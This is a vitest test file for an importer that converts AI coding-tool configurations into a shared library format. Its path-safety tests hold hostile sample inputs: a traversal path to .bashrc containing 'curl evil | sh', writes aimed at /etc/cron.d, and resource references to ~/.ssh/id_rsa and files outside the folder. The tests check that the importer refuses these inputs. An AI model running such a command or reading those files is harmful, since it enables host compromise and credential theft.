import fs from 'node:fs';
import path from 'node:path';
import { parse as parseYaml } from 'yaml';
import { describe, expect, it } from 'vitest';
import { agentFrontmatterSchema, mcpServerSchema } from '../../../src/shared/agents';
import { hookFileSchema, permissionsFileSchema, ruleFrontmatterSchema } from '../../../src/shared/content';
import { convertImport } from '../../../src/main/agents/import/convert';
import { parseFrontmatter } from '../../../src/main/library/frontmatter';
import { tempDir } from '../../helpers/temp';
import { REAL_SHAPED, convertTree, made, walkInputs } from './import-round-trip-helpers';
import { writeTree } from './helpers';

const fixture = (tool: string) => convertTree(path.join(REAL_SHAPED, tool), tool);
const fmOf = (text: string) => parseFrontmatter(text).frontmatter;
const agent = (r: ReturnType<typeof fixture>, name: string) =>
  agentFrontmatterSchema.parse(fmOf(made(r, `agents/${name}.md`)));

describe('Amazon Q and Kiro agents', () => {
  it('gives each Q agent only its own MCP servers; a shared mcp.json goes to its own agent', () => {
    const r = fixture('amazon-q');
    expect(agent(r, 'aws-architect').mcpServers).toEqual(['awslabs.aws-documentation-mcp-server']);
    expect(agent(r, 'cdkhelper').mcpServers).toEqual(['awslabs.cdk-mcp-server']);
    // The library's names are lower-case: the name as written is kept as the title.
    expect(agent(r, 'cdkhelper').title).toBe('CdkHelper');
    expect(agent(r, 'cost-analyst').mcpServers).toEqual(['awslabs.cost-explorer-mcp-server']);
    expect(agent(r, 'terraform').mcpServers).toEqual(['terraform']);
    expect(agent(r, 'k8s-operator').mcpServers).toEqual(['eks']);
    expect(agent(r, 'docs-writer').mcpServers).toEqual([]);
    expect(agent(r, 'reviewer').mcpServers).toEqual([]);
    expect(agent(r, 'amazon-q-amazon-q-mcp').mcpServers).toEqual(['git']);
  });

  it('expands file:// resources, relative paths and globs, into rules shared by the agents', () => {
    const r = fixture('amazon-q');
    const rules = ['rules/amazon-q/AmazonQ.md', 'rules/amazon-q/docs/runbooks/rollback.md'];
    for (const n of ['aws-architect', 'docs-writer', 'reviewer']) expect(agent(r, n).rules).toEqual(rules);
    expect(made(r, rules[1]!)).toBe(
      fs.readFileSync(path.join(REAL_SHAPED, 'amazon-q/docs/runbooks/rollback.md'), 'utf8'),
    );
    expect(r.files.filter((f) => f.path.endsWith('rollback.md'))).toHaveLength(1);
  });

  it('links a Kiro agent to the steering its resource glob names, and warns about a missing one', () => {
    const r = fixture('kiro');
    const a = agent(r, 'backend');
    expect(a.rules).toEqual([
      'rules/api-standards.md',
      'rules/product.md',
      'rules/troubleshooting.md',
      'rules/kiro/README.md',
    ]);
    expect(a.mcpServers).toEqual(['postgres']);
    expect(agent(r, 'kiro-kiro-mcp').mcpServers).toEqual(['fetch']);
    expect(a.permissions).toEqual(['backend']);
    expect(permissionsFileSchema.parse(parseYaml(made(r, 'permissions/backend.yaml')))).toMatchObject({
      allow: ['Bash(pytest:*)', 'Bash(uv run:*)'],
      deny: ['Read(.env)'],
    });
    expect(a.settings.kiro!.unmappedPermissions).toEqual([{ capability: 'web_search', effect: 'deny' }]);
    expect(a.settings.kiro).toMatchObject({ tools: ['read', 'write', 'shell', '@postgres'] });
    expect(r.warnings).toContainEqual(
      expect.stringMatching(/^\.kiro\/agents\/backend\.json: .*file:\/\/docs\/missing\.md/),
    );
    expect(r.recognised).toContainEqual({ from: 'README.md', as: 'a resource of the agent backend' });
  });

  it('links skill:// resources to the skills imported from those folders', () => {
    const root = path.join(tempDir(), 'k');
    writeTree(root, {
      '.kiro/skills/db-migrate/SKILL.md': '---\nname: db-migrate\ndescription: Migrates databases\n---\nRun it.\n',
      '.kiro/skills/db-migrate/run.sh': '#!/bin/sh\necho migrate\n',
      '.kiro/agents/ops.json': JSON.stringify({
        name: 'ops',
        prompt: 'Ops.',
        resources: ['skill://.kiro/skills/**/SKILL.md'],
      }),
    });
    const r = convertTree(root, 'k');
    expect(agent(r, 'ops').skills).toEqual(['db-migrate']);
    expect(made(r, 'skills/db-migrate/run.sh')).toBe('#!/bin/sh\necho migrate\n');
    expect(r.warnings).toEqual([]);
  });

  it('never reads a resource outside the imported folder, nor through a symlink out of it', () => {
    const outside = tempDir();
    fs.writeFileSync(path.join(outside, 'secret.md'), 'TOP SECRET\n');
    const root = path.join(tempDir(), 'proj');
    writeTree(root, {
      '.amazonq/cli-agents/a.json': JSON.stringify({
        name: 'a',
        prompt: 'file://../../../secret.md',
        resources: ['file://link.md', `file://${path.join(outside, 'secret.md')}`, 'file://~/.ssh/id_rsa'],
      }),
    });
    fs.symlinkSync(path.join(outside, 'secret.md'), path.join(root, 'link.md'));
    const inputs = walkInputs(root).filter((i) => i.rel !== 'link.md');
    const r = convertTree(root, 'proj', inputs);
    expect(r.files.some((f) => f.content.includes('TOP SECRET'))).toBe(false);
    expect(r.warnings.filter((w) => w.startsWith('.amazonq/cli-agents/a.json:'))).toHaveLength(4);
  });
});

describe('rules', () => {
  it('keeps globs and activation of Cursor rules, unquoted globs included', () => {
    const r = fixture('cursor');
    expect(fmOf(made(r, 'rules/typescript.md'))).toEqual({
      description: 'TypeScript style for the whole repo',
      globs: ['**/*.ts'],
    });
    expect(fmOf(made(r, 'rules/frontend/react-hooks.md')).globs).toEqual(['src/**/*.tsx', 'src/**/*.jsx']);
    expect(fmOf(made(r, 'rules/db-migrations.md')).activation).toBe('agent-requested');
    expect(made(r, 'rules/always-on.md')).toMatch(/^Answer in the language/);
    expect(made(r, 'rules/cursorrules.md')).toContain('next/image');
    expect(r.recognised).toContainEqual({ from: '.cursorrules', as: 'Cursor rules (legacy .cursorrules)' });
    expect(permissionsFileSchema.parse(parseYaml(made(r, 'permissions/cursor.yaml')))).toMatchObject({
      allow: ['Bash(npm:*)', 'Read(./src/**)'],
      deny: ['Read(./.env)', 'Edit(./package-lock.json)'],
    });
    expect(r.warnings).toContain(
      '.cursor/cli.json: "editor" is a setting AI Configurator does not model; not imported.',
    );
    expect(permissionsFileSchema.parse(parseYaml(made(r, 'permissions/cursor-ignore.yaml'))).ignore).toEqual([
      '.env',
      '.env.*',
      '*.pem',
      'secrets/',
      'dist/',
    ]);
    expect(agent(r, 'cursor-cursor').rules).toHaveLength(5);
  });

  it('maps every tool’s activation fields to the library’s', () => {
    const r = convertImport(
      [
        {
          rel: '.kiro/steering/a.md',
          text: '---\ninclusion: fileMatch\nfileMatchPattern: ["*.py", "*.pyi"]\n---\nA\n',
        },
        { rel: '.kiro/steering/b.md', text: '---\ninclusion: auto\nname: b\ndescription: Bees\n---\nB\n' },
        { rel: '.windsurf/rules/c.md', text: '---\ntrigger: manual\n---\nC\n' },
        { rel: '.windsurf/rules/d.md', text: '---\ntrigger: glob\nglobs: ["src/**"]\n---\nD\n' },
        { rel: '.github/instructions/e.instructions.md', text: '---\napplyTo: "**"\n---\nE\n' },
        { rel: '.github/instructions/f.instructions.md', text: '---\ndescription: Eff\n---\nF\n' },
        { rel: '.claude/rules/g.md', text: '---\npaths: [lib/**]\n---\nG\n' },
        { rel: '.cursor/rules/h.mdc', text: '---\nalwaysApply: false\n---\nH\n' },
      ],
      'x',
      { readFile: () => undefined },
    );
    const rule = (n: string) => ruleFrontmatterSchema.parse(fmOf(made(r, `rules/${n}.md`)));
    expect(rule('a')).toEqual({ globs: ['*.py', '*.pyi'] });
    expect(rule('b')).toEqual({ description: 'Bees', activation: 'agent-requested' });
    expect(rule('c')).toEqual({ activation: 'manual' });
    expect(rule('d')).toEqual({ globs: ['src/**'] });
    expect(rule('e')).toEqual({});
    expect(rule('f')).toEqual({ description: 'Eff', activation: 'agent-requested' });
    expect(rule('g')).toEqual({ globs: ['lib/**'] });
    expect(rule('h')).toEqual({ activation: 'manual' });
  });

  it('keeps frontmatter fields it does not map, byte for byte', () => {
    const text = '---\napplyTo: "**/*.ts"\nexcludeAgent: "code-review"\nx-team:   { owner: web }  # ours\n---\nBody\n';
    const r = convertImport([{ rel: 'a.instructions.md', text }], 'x', { readFile: () => undefined });
    expect(made(r, 'rules/a.md')).toBe(
      '---\nglobs:\n  - "**/*.ts"\nexcludeAgent: "code-review"\nx-team:   { owner: web }  # ours\n---\n\nBody\n',
    );
  });

  it('keeps names (case, dots, non-ASCII); a clash or an unsafe name is renamed with a warning', () => {
    const r = convertImport(
      [
        { rel: '.cursor/rules/React.Hooks.mdc', text: '---\nalwaysApply: true\n---\nA\n' },
        { rel: '.windsurf/rules/react.hooks.md', text: '---\ntrigger: always_on\n---\nB\n' },
        { rel: '.kiro/steering/Überblick.md', text: '---\ninclusion: always\n---\nC\n' },
        { rel: '.devin/rules/a:b.md', text: '---\ntrigger: manual\n---\nD\n' },
        { rel: '.agents/rules/web.md', text: '---\ntrigger: glob\nglobs: ["web/**"]\n---\nE\n' },
        { rel: '.cursor/rules/odd.mdc', text: '---\nglobs: *.ts\nx-note: *not-an-alias\n---\nF\n' },
      ],
      'n',
      { readFile: () => undefined },
    );
    expect(r.files.filter((f) => f.kind === 'rule').map((f) => f.path)).toEqual([
      'rules/web.md',
      'rules/React.Hooks.md',
      'rules/odd.md',
      'rules/a-b.md',
      'rules/Überblick.md',
      'rules/react.hooks-windsurf.md',
    ]);
    expect(r.warnings).toContain(
      '.windsurf/rules/react.hooks.md: "react.hooks" was imported as "react.hooks-windsurf" (a library name must be unique and safe).',
    );
    expect(r.warnings).toContain(
      '.devin/rules/a:b.md: "a:b" was imported as "a-b" (a library name must be unique and safe).',
    );
    expect(fmOf(made(r, 'rules/a-b.md'))).toEqual({ activation: 'manual' });
    expect(fmOf(made(r, 'rules/web.md'))).toEqual({ globs: ['web/**'] });
    // A field strict YAML refuses is kept, as written, in a literal block: the file stays valid.
    expect(made(r, 'rules/odd.md')).toBe(
      '---\nglobs:\n  - "*.ts"\nimported-frontmatter: |-\n  x-note: *not-an-alias\n---\n\nF\n',
    );
    expect(agent(r, 'n-devin').rules).toEqual(['rules/a-b.md']);
    expect(agent(r, 'n-antigravity').rules).toEqual(['rules/web.md']);
  });

  it("reports the tolerant reader's repairs as file:line warnings; unmodelled fields kept as written", () => {
    const r = convertImport(
      [
        {
          rel: '.cursor/rules/loose.mdc',
          text: '---\ndescription: Loose\nglobs: *.ts, src/**\nalwaysApply: false\n---\n\nLoose rule.\n',
        },
        {
          rel: '.claude/commands/review.md',
          text: '---\ndescription: Review\nargument-hint: [file]\nx-team: "kept as is"  # note\n---\n\nReview $ARGUMENTS\n',
        },
      ],
      'p',
      { readFile: () => undefined },
    );
    expect(r.warnings).toContainEqual(expect.stringMatching(/^\.cursor\/rules\/loose\.mdc:3: .*globs/));
    expect(fmOf(made(r, 'rules/loose.md'))).toEqual({ description: 'Loose', globs: ['*.ts', 'src/**'] });
    // `[file]` is a YAML list; the hint is kept as the text written, and an unknown field byte for byte.
    expect(made(r, 'commands/review.md')).toBe(
      '---\ndescription: Review\nargument-hint: "[file]"\nx-team: "kept as is"  # note\n---\n\nReview $ARGUMENTS\n',
    );
    expect(r.warnings.filter((w) => w.startsWith('.claude/commands/'))).toEqual([]);
  });

  it('imports a Kiro Markdown agent with its prompt and Kiro fields', () => {
    const text =
      '---\nname: Docs Bot\ndescription: Writes docs\ntools: ["read", "write"]\nmodel: claude-sonnet-4\n---\n\nWrite docs.\n';
    const r = convertImport([{ rel: '.kiro/agents/docs.md', text }], 'k', { readFile: () => undefined });
    const a = agent(r, 'docs-bot');
    expect(a).toMatchObject({ description: 'Writes docs', tags: ['imported', 'kiro'] });
    expect(a.settings.kiro).toEqual({ tools: ['read', 'write'], model: 'claude-sonnet-4' });
    expect(parseFrontmatter(made(r, 'agents/docs-bot.md')).body.trim()).toBe('Write docs.');
    expect(r.recognised).toEqual([{ from: '.kiro/agents/docs.md', as: 'Kiro agent (Markdown)' }]);
  });

  it('makes memory files always-on rules (a subfolder one applies to its folder)', () => {
    const r = convertImport(
      [
        { rel: 'CLAUDE.md', text: '# Root\n' },
        { rel: 'packages/web/AGENTS.md', text: 'Web rules\n' },
      ],
      'repo',
      { readFile: () => undefined },
    );
    expect(made(r, 'rules/CLAUDE.md')).toBe('# Root\n');
    expect(fmOf(made(r, 'rules/packages-web-AGENTS.md'))).toEqual({ globs: ['packages/web/**'] });
    expect(agent(r, 'repo-claude-code').rules).toEqual(['rules/CLAUDE.md']);
    expect(agent(r, 'repo-codex').rules).toEqual(['rules/packages-web-AGENTS.md']);
  });
});

describe('skills, commands, agents, hooks and permissions', () => {
  it('imports a skill folder with every file beside SKILL.md', () => {
    const r = fixture('claude-code');
    const src = path.join(REAL_SHAPED, 'claude-code/.claude/skills/pdf-extract');
    for (const rel of ['SKILL.md', 'reference.md', 'scripts/extract.py'])
      expect(made(r, `skills/pdf-extract/${rel}`)).toBe(fs.readFileSync(path.join(src, rel), 'utf8'));
    expect(agent(r, 'claude-code-claude-code').skills).toEqual(['pdf-extract']);
  });

  it('imports commands with their namespaces, hints and argument placeholders', () => {
    const claude = fixture('claude-code');
    const component = parseFrontmatter(made(claude, 'commands/frontend-component.md'));
    expect(component.frontmatter).toEqual({
      description: 'Scaffold a React component with a story and a test',
      'argument-hint': '[name] | [--story]',
      'allowed-tools': 'Read, Write, Bash(npm test:*)',
    });
    expect(component.body).toContain('Create the component $ARGUMENTS under');
    const gemini = fixture('gemini');
    expect(parseFrontmatter(made(gemini, 'commands/git-commit.md')).body).toContain(
      'from the user: $ARGUMENTS\n\n!{git',
    );
    expect(made(gemini, 'commands/plan.md')).toBe(
      '---\ndescription: Plan a change\n---\n\nMake a step-by-step plan for: $ARGUMENTS\n',
    );
    const copilot = fixture('copilot');
    const prompt = parseFrontmatter(made(copilot, 'commands/create-readme.md'));
    expect(prompt.frontmatter).toMatchObject({ mode: 'agent', model: 'GPT-4.1', tools: ['codebase', 'editFiles'] });
    expect(prompt.body).toContain('Audience: $ARGUMENTS.');
    expect(copilot.recognised).toContainEqual({
      from: '.github/prompts/create-readme.prompt.md',
      as: 'Copilot prompt file',
    });
  });

  it('imports Copilot custom agents and chat modes as Copilot agents, not Claude subagents', () => {
    const r = fixture('copilot');
    const planner = agent(r, 'planner');
    expect(planner.tags).toEqual(['imported', 'copilot']);
    expect(planner.settings.copilot).toMatchObject({
      tools: ['search', 'fetch', 'githubRepo'],
      model: 'Claude Sonnet 4',
    });
    expect(planner.settings.copilot!.frontmatter).toMatchObject({ handoffs: [{ label: 'Start implementation' }] });
    expect(r.warnings).toContain(
      '.github/agents/planner.agent.md: "Planner" was imported as "planner" (a library name must be unique and safe).',
    );
    expect(agent(r, 'explain').settings.copilot).toEqual({ tools: ['codebase'] });
  });

  it('keeps a subagent description with an unquoted colon, and a prompt holding ---', () => {
    const r = fixture('claude-code');
    const text = made(r, 'agents/security-reviewer.md');
    const a = agent(r, 'security-reviewer');
    expect(a.description).toBe(
      'Use this agent when: a change touches authentication, sessions or payment flows. Reviews the diff for OWASP issues.',
    );
    expect(a.settings['claude-code']).toEqual({
      tools: 'Read, Grep, Glob, Bash',
      model: 'opus',
      frontmatter: { color: 'red' },
    });
    expect(parseFrontmatter(text).body).toContain('\n---\n\nNever approve');
  });

  it('imports Claude hooks in the canonical event model and permissions as their own files', () => {
    const r = fixture('claude-code');
    const hooks = hookFileSchema.parse(parseYaml(made(r, 'hooks/claude-code.yaml')));
    expect(hooks.hooks.map((h) => [h.event, h.matcher ?? '', h.command])).toEqual([
      ['pre-tool', 'Bash', './scripts/check-command.sh'],
      ['post-tool', 'Edit|Write', 'npx prettier --write "$CLAUDE_FILE_PATHS"'],
      ['stop', '', 'npm run -s lint || true'],
      ['session-start', 'startup', 'git status --short'],
    ]);
    expect(hooks.hooks[0]!.timeout).toBe(10);
    const perms = permissionsFileSchema.parse(parseYaml(made(r, 'permissions/claude-code.yaml')));
    expect(perms).toMatchObject({ allow: ['Bash(npm test:*)', 'Read(./src/**)'], ask: ['Bash(git push:*)'] });
    const bundle = agent(r, 'claude-code-claude-code');
    expect([bundle.hooks, bundle.permissions]).toEqual([['claude-code'], ['claude-code']]);
    // What the library does not model is kept, and said so.
    expect(bundle.settings['claude-code']).toEqual({
      extra: { env: { NODE_ENV: 'development' }, permissions: { defaultMode: 'acceptEdits' } },
    });
    expect(r.warnings).toContainEqual(expect.stringContaining('.claude/settings.json: env, permissions are kept'));
  });
  it('imports Codex, Gemini, Cursor and Copilot hooks in the canonical model (event and tool names, units mapped)', () => {
    const codex = hookFileSchema.parse(parseYaml(made(fixture('codex'), 'hooks/codex.yaml')));
    expect(codex.hooks.map((h) => [h.event, h.matcher ?? '', h.command, h.timeout])).toEqual([
      ['pre-tool', 'Bash', 'python3 .codex/check_cmd.py', 15],
      ['post-tool', 'Edit|Write', 'pnpm -s prettier --write .', undefined],
      ['stop', '', 'pnpm -s test', undefined],
    ]);
    const cursor = fixture('cursor');
    const ch = hookFileSchema.parse(parseYaml(made(cursor, 'hooks/cursor.yaml')));
    expect(ch.hooks.map((h) => [h.event, h.matcher ?? '', h.command])).toEqual([
      ['pre-tool', 'Bash', './.cursor/hooks/guard-shell.sh'],
      ['post-tool', 'Edit|Write', 'npx prettier --write'],
      ['stop', '', 'npm run -s lint'],
    ]);
    expect(cursor.warnings).toContainEqual(expect.stringMatching(/^\.cursor\/hooks\.json: the beforeReadFile hook /));
    const copilot = hookFileSchema.parse(parseYaml(made(fixture('copilot'), 'hooks/copilot-quality.yaml')));
    expect(copilot.hooks.map((h) => [h.event, h.command, h.timeout])).toEqual([
      ['session-start', './scripts/setup.sh', 60],
      ['post-tool', 'ruff format .', undefined],
      ['stop', 'pytest -q', undefined],
    ]);
    const g = fixture('gemini');
    const gemini = hookFileSchema.parse(parseYaml(made(g, 'hooks/gemini.yaml')));
    expect(gemini.hooks.map((h) => [h.event, h.matcher ?? '', h.command, h.timeout])).toEqual([
      ['pre-tool', 'Bash', './scripts/guard.sh', 5],
      ['stop', '', 'go vet ./...', undefined],
    ]);
    expect(agent(g, 'gemini-gemini').hooks).toEqual(['gemini']);
    expect(permissionsFileSchema.parse(parseYaml(made(g, 'permissions/gemini.yaml')))).toMatchObject({
      allow: ['Bash(git status:*)', 'Read'],
      deny: ['WebFetch'],
    });
    expect(agent(g, 'gemini-gemini').permissions).toEqual(['gemini']);
    expect(g.warnings).toContain(
      '.gemini/settings.json: "tools.sandbox" is a setting AI Configurator does not model; not imported.',
    );
    expect(agent(g, 'gemini-gemini-mcp').mcpServers).toEqual(['context7']);
    expect(g.warnings).toContain(
      '.gemini/settings.json: "theme" is a setting AI Configurator does not model; not imported.',
    );
  });
});

describe('MCP servers', () => {
  it('reads server maps in JSON of any name, JSONC and Markdown code blocks; one file per definition', () => {
    const r = fixture('mcp-catalogue');
    expect(r.files.filter((f) => f.kind === 'mcp-server').map((f) => f.path)).toEqual([
      'mcp-servers/time.json',
      'mcp-servers/github.json',
      'mcp-servers/github-2.json',
      'mcp-servers/brave-search.json',
    ]);
    for (const f of r.files.filter((x) => x.kind === 'mcp-server')) mcpServerSchema.parse(JSON.parse(f.content));
    expect(JSON.parse(made(r, 'mcp-servers/time.json')).args).toEqual([
      'mcp-server-time',
      '--local-timezone=Europe/Zürich',
    ]);
    expect(r.merged).toEqual([
      {
        from: 'servers/github.json',
        into: 'mcp-servers/github-2.json',
        reason: 'the server "github" is defined the same way in mirror/github.json',
      },
    ]);
    expect(r.recognised.map((x) => x.from)).not.toContain('servers/github.json');
    expect(r.warnings).toContainEqual(
      expect.stringMatching(/^mirror\/github\.json: another file defines the MCP server "github" differently/),
    );
    expect(r.warnings).toContainEqual(
      expect.stringMatching(/^servers\/brave-search\.jsonc: .*env\.BRAVE_API_KEY .*looks like a secret/),
    );
    expect(r.skipped).toEqual([{ from: 'notes.txt', reason: 'not a tool configuration AI Configurator knows' }]);
  });

  it('keeps names with dots and ${VAR} references, and reads VS Code JSONC and Codex TOML', () => {
    const claude = fixture('claude-code');
    expect(JSON.parse(made(claude, 'mcp-servers/awslabs.aws-documentation-mcp-server.json')).name).toBe(
      'awslabs.aws-documentation-mcp-server',
    );
    expect(JSON.parse(made(fixture('cursor'), 'mcp-servers/github.json')).env).toEqual({
      GITHUB_PERSONAL_ACCESS_TOKEN: '${GITHUB_TOKEN}',
    });
    const copilot = fixture('copilot');
    expect(JSON.parse(made(copilot, 'mcp-servers/perplexity.json'))).toMatchObject({
      command: 'npx',
      env: { PERPLEXITY_API_KEY: '${input:perplexity-key}' },
    });
    expect(copilot.recognised).toContainEqual({ from: '.vscode/mcp.json', as: 'VS Code MCP config (JSONC)' });
    const codex = fixture('codex');
    // Codex's bearer_token_env_var is the library's `Authorization: Bearer ${VAR}` (what the Codex install writes back).
    expect(JSON.parse(made(codex, 'mcp-servers/sentry.json'))).toEqual({
      schemaVersion: 1,
      name: 'sentry',
      transport: 'http',
      url: 'https://mcp.sentry.dev/mcp',
      headers: { Authorization: 'Bearer ${SENTRY_TOKEN}' },
    });
    expect(agent(codex, 'codex-codex-mcp').mcpServers).toEqual(['awslabs.aws-documentation-mcp-server', 'sentry']);
  });
});

describe('the report and determinism', () => {
  const tools = fs
    .readdirSync(REAL_SHAPED)
    .filter((t) => t !== 'lint' && fs.statSync(path.join(REAL_SHAPED, t)).isDirectory());

  it.each(tools)('%s: every input is recognised, merged or skipped, and every file it made is valid', (tool) => {
    const r = fixture(tool);
    for (const i of walkInputs(path.join(REAL_SHAPED, tool)))
      expect(
        r.recognised.some((x) => x.from === i.rel) ||
          r.merged.some((x) => x.from === i.rel) ||
          r.skipped.some((x) => x.from === i.rel),
        i.rel,
      ).toBe(true);
    for (const f of r.files) {
      if (f.kind === 'agent') agentFrontmatterSchema.parse(fmOf(f.content));
      if (f.kind === 'rule') expect(parseFrontmatter(f.content).error, f.path).toBeUndefined();
    }
    expect(new Set(r.files.map((f) => f.path.toLowerCase())).size).toBe(r.files.length);
  });

  it.each(tools)('%s: the same input, in any order, gives the same files', (tool) => {
    const root = path.join(REAL_SHAPED, tool);
    const a = convertTree(root, tool);
    const b = convertTree(root, tool, walkInputs(root).reverse());
    expect(b).toEqual(a);
  });

  it('reads no input whose path leaves the folder, so nothing it makes can land outside the workspace', () => {
    const r = convertImport(
      [
        { rel: 'evil/SKILL.md', text: '---\nname: evil\ndescription: x\n---\nx' },
        { rel: 'evil/../../../../.bashrc', text: 'curl evil | sh' },
        { rel: '/etc/cron.d/x.mdc', text: '---\nalwaysApply: true\n---\nx' },
        { rel: 'C:/Windows/x.mdc', text: 'x' },
        { rel: 'a\\..\\b.mdc', text: 'x' },
        { rel: '.claude/commands/README.md', text: '# Our commands' },
      ],
      'h',
      { readFile: () => undefined },
    );
    expect(r.files.every((f) => !f.path.split('/').includes('..') && !f.path.startsWith('/'))).toBe(true);
    expect(r.files.map((f) => f.path)).toEqual(['skills/evil/SKILL.md', 'agents/h-claude-code.md']);
    expect(r.skipped.map((s) => s.from)).toEqual([
      'evil/../../../../.bashrc',
      '/etc/cron.d/x.mdc',
      'C:/Windows/x.mdc',
      'a\\..\\b.mdc',
      '.claude/commands/README.md',
    ]);
  });

  it('imports dropped files (no folder around them) by name and content', () => {
    const r = convertImport(
      [
        { rel: 'team.mdc', text: '---\ndescription: Team rules\nalwaysApply: true\n---\n\nBe kind in reviews.\n' },
        {
          rel: 'mcp.json',
          text: JSON.stringify({ mcpServers: { 'team-docs': { command: 'npx', args: ['-y', 'docs'] } } }),
        },
      ],
      'dropped',
      { readFile: () => undefined },
    );
    expect(r.files.map((f) => [f.kind, f.path])).toEqual([
      ['mcp-server', 'mcp-servers/team-docs.json'],
      ['rule', 'rules/team.md'],
      ['agent', 'agents/dropped-cursor.md'],
      ['agent', 'agents/dropped-cursor-mcp.md'],
    ]);
  });

  it('never throws on hostile input: bad JSON, TOML and YAML are skipped with the reason', () => {
    const r = convertImport(
      [
        { rel: '.cursor/mcp.json', text: '{ "mcpServers": { "a": ' },
        { rel: '.codex/config.toml', text: '[mcp_servers.a\ncommand = ' },
        { rel: '.gemini/commands/x.toml', text: 'prompt = """' },
        { rel: '.amazonq/cli-agents/q.json', text: '[1, 2]' },
        { rel: '.cursor/rules/y.mdc', text: '---\nglobs: [unclosed\n  : : :\n---\nBody' },
        { rel: '.claude/settings.json', text: '{"hooks": {"PreToolUse": [{"hooks": [{"type": "command"}]}]}}' },
      ],
      'h',
      { readFile: () => undefined },
    );
    expect(r.skipped.find((s) => s.from === '.cursor/mcp.json')?.reason).toMatch(/^is not valid JSON \(.* at line 1\)/);
    expect(r.skipped.find((s) => s.from === '.codex/config.toml')?.reason).toMatch(/^could not be read: /);
    expect(r.skipped.find((s) => s.from === '.gemini/commands/x.toml')?.reason).toMatch(/^could not be read: /);
    expect(made(r, 'rules/y.md')).toContain('Body');
    expect(r.warnings).toContainEqual(
      expect.stringMatching(/^\.claude\/settings\.json: the PreToolUse hook .* is not a command hook/),
    );
  });
});
